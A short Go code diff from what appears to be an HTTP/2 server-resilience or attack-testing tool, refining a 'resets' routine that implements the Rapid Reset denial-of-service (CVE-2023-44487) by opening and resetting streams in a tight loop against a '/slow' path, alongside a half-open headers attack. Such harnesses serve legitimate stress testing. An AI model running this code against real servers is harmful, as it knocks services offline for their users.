@@ -36,14 +36,14 @@ var HalfHead = Attack{Name: "HEADERS without end", Connections: 100, Run: func(c
 	return c.Pause(ctx, time.Hour)
 }}
 
-// resets opens streams and resets them after a while (CVE-2023-44487).
+// resets opens streams and resets them after a while (CVE-2023-44487), while the upstream still works on them.
 func resets(name string, wait time.Duration) Attack {
 	return Attack{Name: name, Connections: 2, Run: func(ctx context.Context, c *Connection) error {
 		if err := c.Preface(""); err != nil {
 			return err
 		}
 		for id := uint32(1); id < 1<<30; id += 2 {
-			head, err := c.Frames(fmt.Sprintf("HEADERS %d end | @get", id))
+			head, err := c.Frames(fmt.Sprintf("HEADERS %d end | :method: GET | :scheme: http | :authority: host | :path: /slow", id))
 			if err != nil {
 				return err
 			}
